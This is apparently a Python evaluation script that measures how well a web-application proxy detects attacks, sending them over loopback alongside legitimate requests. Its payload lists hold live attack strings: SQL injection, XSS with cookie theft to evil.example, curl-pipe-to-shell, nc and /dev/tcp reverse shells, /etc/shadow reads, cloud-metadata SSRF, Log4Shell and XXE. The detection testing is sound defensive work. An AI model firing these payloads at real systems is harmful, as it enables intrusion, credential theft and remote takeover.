"""End-to-end detection check through the real `bastion proxy` with the default configuration.

An independent set of attack and legitimate API requests (written for this script, not taken from
any corpus the rules were measured on), sent over real sockets, each from its own loopback address
unless --one-client is given (then every request comes from 127.0.0.1, as a careless harness would,
which shows what entity blocking does to legitimate traffic sharing an attacker's address).

    .venv/bin/python bench/eval_proxy.py [--one-client] [--verbose]

Prints the share of attacks blocked per class and the share of legitimate requests blocked.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import http.client
import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import time
import urllib.parse
from collections import defaultdict
from collections.abc import Iterator
from dataclasses import dataclass

from gateway_load import free_port

ATTACKS: dict[str, list[str]] = {
    "sqli": [
        "' OR '1'='1", "1' OR 1=1-- -", "1 UNION SELECT username, password FROM users--",
        "admin'--", "1; DROP TABLE users", "1' AND SLEEP(5)#", "1' AND extractvalue(1,concat(0x7e,version()))--",
        "-1 union all select null,null,@@version", "1) OR pg_sleep(5)--", "'; WAITFOR DELAY '0:0:5'--",
        "1' ORDER BY 10--", "x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)", "' or ''='", "1'/**/UNION/**/SELECT/**/1,2,3--",
        "1%27%20OR%20%271%27%3D%271", "' || (select load_file('/etc/passwd')) || '", "1 or benchmark(10000000,md5(1))",
        "\" OR \"\"=\"", "1' and updatexml(1,concat(0x7e,(select user())),1)-- ",
    ],
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>",
        "\"><script>fetch('//evil.example/'+document.cookie)</script>", "javascript:alert(1)",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert(1)>", "'-alert(1)-'",
        "<a href=\"javascript&colon;alert(1)\">x</a>", "<details open ontoggle=alert(1)>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "<ScRiPt>prompt(1)</sCrIpT>", "<math><mtext><img src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "\" onmouseover=\"alert(1)", "<video><source onerror=\"alert(1)\">", "&lt;script&gt;alert(1)&lt;/script&gt;",
    ],
    "rce": [
        "; cat /etc/passwd", "| id", "`whoami`", "$(curl http://evil.example/x.sh | sh)", "&& ping -c 10 127.0.0.1",
        "; wget http://203.0.113.5/bot -O /tmp/b; chmod +x /tmp/b", "|| nc -e /bin/sh 203.0.113.5 4444",
        "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "$(sleep 10)", ";${IFS}cat${IFS}/etc/shadow",
        "& powershell -enc SQBFAFgA", "| cmd.exe /c dir", "127.0.0.1; ls -la /", "test;python -c 'import os;os.system(\"id\")'",
    ],
    "traversal": [
        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow", "..\\..\\..\\windows\\win.ini", "/etc/passwd%00.png",
        "..%252f..%252f..%252fetc%252fpasswd", "file:///etc/passwd", "/proc/self/environ", "..%c0%af..%c0%afetc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:6379/",
        "http://metadata.google.internal/computeMetadata/v1/", "gopher://127.0.0.1:25/_HELO", "http://[::1]:8080/admin",
        "http://0x7f000001/", "http://2130706433/", "dict://127.0.0.1:11211/stats", "http://localhost/server-status",
        "http://10.0.0.5:8500/v1/agent/self", "http://169.254.169.254.nip.io/",
    ],
    "nosqli": [
        '{"username": {"$ne": null}, "password": {"$ne": null}}', '{"$where": "sleep(5000)"}',
        '{"user": {"$regex": ".*"}, "pass": {"$gt": ""}}', "username[$ne]=x&password[$ne]=x",
        '{"email": {"$in": ["admin@example.com"]}, "password": {"$exists": true}}',
    ],
    "ssti": [
        "{{7*7}}{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${7*7}#{7*7}",
        "<%= system('id') %>", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
    ],
    "log4shell": [
        "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/x}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}", "${jndi:dns://evil.example}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/}",
    ],
    "xxe": [
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><r/>',
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
    ],
    "deserialization": [
        'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}', "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}',
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/x","autoCommit":true}',
        "<?php system($_GET['c']); ?>", "java.lang.Runtime.getRuntime().exec(\"id\")",
    ],
    "crlf": [
        "foo%0d%0aSet-Cookie:%20session=evil", "x\r\nX-Injected: 1", "%0d%0aLocation:%20http://evil.example",
        "/redirect?url=%0d%0a%0d%0a<script>alert(1)</script>",
    ],
}

SCANNER_UAS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
               "masscan/1.3", "Wfuzz/3.1", "gobuster/3.6", "nuclei - Open-source project (github.com/projectdiscovery/nuclei)"]

BENIGN_VALUES = [
    "O'Brien", "Let's meet at 5 or 6", "Please select your drop-off location", "I'd like to update my order; drop the mug",
    "Café au lait & croissants", "中文搜索 测试", "Привет, как дела?", "مرحبا بالعالم", "naïve résumé", "emoji 🎉🚀",
    "SELECT plan: premium", "union of workers", "1 + 1 = 2", "a < b and c > d", "<3 this product!",
    "Use `SELECT * FROM t` to read all rows", "https://example.com/path?a=1&b=2", "jane.doe+test@example.co.uk",
    "+1 (555) 010-9999", "2026-11-23T10:00:00Z", "ID-4411-AB", "Tom & Jerry's \"best\" episode", "50% off -- today only",
    "C:\\Users\\me\\Documents\\report.pdf", "path/to/file.txt", "rock'n'roll", "It's 5 o'clock; time for tea",
    "# Heading\n\n* item one\n* item two\n\n**bold** and _italic_", "price >= 10 and price <= 20",
    "I want to drop my course and select another one", "The script was great, 5 stars", "SQL tutorial: joins and unions",
    "curl -X POST https://api.example.com/v1/items", "where is my order #1234?", "don't; won't; can't",
    "ready-to-wear (new)", "x=1; y=2", "e.g. /etc/hosts on linux", "Order 66 | priority: high",
]


@dataclass
class Req:
    cls: str
    method: str
    target: str
    headers: dict[str, str]
    body: bytes = b""


def q(v: str) -> str:
    return urllib.parse.quote(v, safe="")


def attack_requests() -> list[Req]:
    out: list[Req] = []
    for cls, payloads in ATTACKS.items():
        for i, p in enumerate(payloads):
            pre = p if "%" in p and cls in ("traversal", "crlf", "sqli", "xss") else q(p)
            if cls == "nosqli" and p.startswith("{"):
                out.append(Req(cls, "POST", "/api/login", {"Content-Type": "application/json"}, p.encode()))
                continue
            if cls == "nosqli":
                out.append(Req(cls, "GET", f"/api/users?{p}", {}))
                continue
            if cls == "xxe":
                out.append(Req(cls, "POST", "/api/import", {"Content-Type": "application/xml"}, p.encode()))
                continue
            where = i % 4
            if where == 0:
                out.append(Req(cls, "GET", f"/api/search?q={pre}&page=1", {}))
            elif where == 1:
                body = json.dumps({"name": "x", "comment": p, "qty": 1}).encode()
                out.append(Req(cls, "POST", "/api/orders", {"Content-Type": "application/json"}, body))
            elif where == 2:
                body = f"title=hello&filter={q(p)}".encode()
                out.append(Req(cls, "POST", "/api/form", {"Content-Type": "application/x-www-form-urlencoded"}, body))
            else:
                out.append(Req(cls, "GET", f"/api/items?id={pre}", {}))
    for ua in SCANNER_UAS:
        out.append(Req("scanner", "GET", "/api/products", {"User-Agent": ua}))
    out.append(Req("log4shell", "GET", "/api/products", {"User-Agent": "${jndi:ldap://evil.example/ua}"}))
    out.append(Req("sqli", "GET", "/api/products", {"Cookie": "session=abc; pref=' OR 1=1--"}))
    out.append(Req("xss", "GET", "/api/products", {"Referer": "https://x/<script>alert(1)</script>"}))
    return out


def benign_requests() -> list[Req]:
    out: list[Req] = []
    for i, v in enumerate(BENIGN_VALUES):
        out.append(Req("benign", "GET", f"/api/search?q={q(v)}&page={i % 5 + 1}&sort=price", {}))
        body = json.dumps({"customer": {"name": v, "email": f"user{i}@example.com"},
                           "items": [{"sku": f"SKU-{i}", "qty": i % 3 + 1}], "note": v}).encode()
        out.append(Req("benign", "POST", "/api/orders", {"Content-Type": "application/json"}, body))
        out.append(Req("benign", "POST", "/api/form", {"Content-Type": "application/x-www-form-urlencoded"},
                       f"comment={q(v)}&rating=5".encode()))
    img = base64.b64encode(bytes(range(256)) * 8).decode()
    out.append(Req("benign", "POST", "/api/avatar", {"Content-Type": "application/json"},
                   json.dumps({"image": f"data:image/png;base64,{img}"}).encode()))
    jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.SflKxwRJSMeKKF2QT4fwpMeJf36"
    out.append(Req("benign", "GET", "/api/me", {"Authorization": f"Bearer {jwt}"}))
    out.append(Req("benign", "POST", "/graphql", {"Content-Type": "application/json"}, json.dumps(
        {"query": "query Get($id: ID!) { user(id: $id) { id name orders(first: 10) { edges { node { id total } } } } }",
         "variables": {"id": "42"}}).encode()))
    out.append(Req("benign", "GET", "/api/redirect?next=" + q("https://shop.example.com/cart?step=2"), {}))
    out.append(Req("benign", "PUT", "/api/users/42/profile", {"Content-Type": "application/json"}, json.dumps(
        {"bio": "Backend dev. I write SQL (SELECT, JOIN, GROUP BY) and a bit of <b>HTML</b>.", "site": "https://me.dev"}
    ).encode()))
    out.append(Req("benign", "GET", "/api/files?path=" + q("reports/2026/q3.pdf"), {}))
    out.append(Req("benign", "DELETE", "/api/orders/1234", {}))
    out.append(Req("benign", "GET", "/api/products?ids=1,2,3&fields=name,price", {}))
    return out




UPSTREAM = r'''
import asyncio, sys
async def handle(r, w):
    try:
        while True:
            head = await r.readuntil(b"\r\n\r\n")
            n = 0
            for line in head.split(b"\r\n"):
                if line.lower().startswith(b"content-length:"):
                    n = int(line.split(b":")[1])
            if n:
                await r.readexactly(n)
            body = b"" if head.startswith(b"HEAD ") else b"{\"ok\":true}"
            w.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 11\r\n\r\n" + body)
            await w.drain()
    except Exception:
        w.close()
async def main():
    s = await asyncio.start_server(handle, "127.0.0.1", int(sys.argv[1]))
    await s.serve_forever()
asyncio.run(main())
'''


def send(port: int, req: Req, source: str) -> int:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10, source_address=(source, 0))
    headers = {"Host": "shop.example", "User-Agent": "eval-client/1.0", "Accept": "application/json"} | req.headers
    try:
        conn.putrequest(req.method, req.target, skip_host=True, skip_accept_encoding=True)
        for k, v in headers.items():
            conn.putheader(k, v)
        if req.body or req.method in ("POST", "PUT", "PATCH"):
            conn.putheader("Content-Length", str(len(req.body)))
        conn.endheaders(req.body or None)
        return conn.getresponse().status
    except (http.client.HTTPException, OSError, ValueError):
        return -1  # the gateway refused the request before answering (or the client could not send it)
    finally:
        conn.close()


STOPPED = (-1, 400, 403, 405, 406, 413, 414, 429, 431)


def stopped(status: int) -> bool:
    """Whether the gateway refused the request (any refusal counts, whatever the reason)."""
    return status in STOPPED or status >= 500


@contextlib.contextmanager
def running_gateway() -> Iterator[int]:
    """A stub upstream and a default `bastion proxy` in front of it; yields the gateway's port."""
    up_port, gw_port = free_port(), free_port()
    data = tempfile.mkdtemp(prefix="bastion-eval-")
    up = subprocess.Popen([sys.executable, "-c", UPSTREAM, str(up_port)])
    bastion = os.path.join(os.path.dirname(sys.executable), "bastion")
    gw = subprocess.Popen([bastion, "proxy", "--upstream", f"http://127.0.0.1:{up_port}",
                           "--listen", f"127.0.0.1:{gw_port}", "--data-dir", data],
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.time() + 20
        while time.time() < deadline:
            try:
                socket.create_connection(("127.0.0.1", gw_port), timeout=0.5).close()
                break
            except OSError:
                time.sleep(0.1)
        yield gw_port
    finally:
        gw.terminate()
        up.terminate()
        gw.wait(10)
        up.wait(10)


def interleave(attacks: list[Req], benign: list[Req], attacks_first: bool = False) -> list[Req]:
    """Attacks and legitimate requests mixed, as real traffic is (or every attack first)."""
    if attacks_first:
        return attacks + benign
    mixed: list[Req] = []
    for i in range(max(len(attacks), len(benign))):
        if i < len(benign):
            mixed.append(benign[i])
        if i < len(attacks):
            mixed.append(attacks[i])
    return mixed


# What http.client refuses to send (it would raise and the harness would count a "block")
_BAD_TARGET = re.compile(r"[\x00-\x20\x7f-\U0010ffff]")


def check(reqs: list[Req]) -> list[Req]:
    """Every request must be sendable as written, so that a refusal is the gateway's, not the client's."""
    for r in reqs:
        if _BAD_TARGET.search(r.target):
            raise ValueError(f"unsendable target: {r.target!r}")
        for k, v in r.headers.items():
            v.encode("latin-1")
            if "\r" in v or "\n" in v or k.lower() == "content-length":
                raise ValueError(f"unsendable header {k}: {v!r}")
    return reqs


def run(port: int, mixed: list[Req], one_client: bool = False) -> tuple[dict[str, list[int]], list[Req]]:
    """Sends every request; returns [blocked, sent] per class and the misses and false positives."""
    blocked: dict[str, list[int]] = defaultdict(lambda: [0, 0])
    misses: list[Req] = []
    for n, req in enumerate(mixed):
        source = "127.0.0.1" if one_client else f"127.{10 + n // 60000}.{(n // 250) % 250}.{n % 250 + 1}"
        refused = stopped(send(port, req, source))
        blocked[req.cls][1] += 1
        if refused:
            blocked[req.cls][0] += 1
        if refused == (req.cls == "benign"):
            misses.append(req)
    return blocked, misses


def report(blocked: dict[str, list[int]], misses: list[Req], verbose: bool) -> None:
    total_a = sum(v[1] for k, v in blocked.items() if k != "benign")
    hit_a = sum(v[0] for k, v in blocked.items() if k != "benign")
    for cls, (hit, n) in sorted(blocked.items()):
        print(f"{cls:16s} {hit:4d}/{n:<4d} blocked ({100 * hit / n:5.1f}%)")
    print(f"{'attacks':16s} {hit_a:4d}/{total_a:<4d} detected ({100 * hit_a / total_a:5.1f}%)")
    if verbose:
        for r in misses:
            print("MISS" if r.cls != "benign" else "FALSE POSITIVE", r.cls, r.method, r.target[:120], r.body[:160])


def evaluate(attacks: list[Req], benign: list[Req], description: str | None = None) -> None:
    """The command line shared by the end-to-end probes: send both sets through a real proxy, report."""
    ap = argparse.ArgumentParser(description=description)
    ap.add_argument("--one-client", action="store_true")
    ap.add_argument("--verbose", action="store_true")
    ap.add_argument("--attacks-first", action="store_true", help="send every attack before any legitimate request")
    args = ap.parse_args()
    print(f"{len(attacks)} attacks, {len(benign)} legitimate requests")
    with running_gateway() as port:
        blocked, misses = run(port, interleave(attacks, benign, args.attacks_first), args.one_client)
    report(blocked, misses, args.verbose)


def main() -> None:
    evaluate(attack_requests(), benign_requests())


if __name__ == "__main__":
    main()
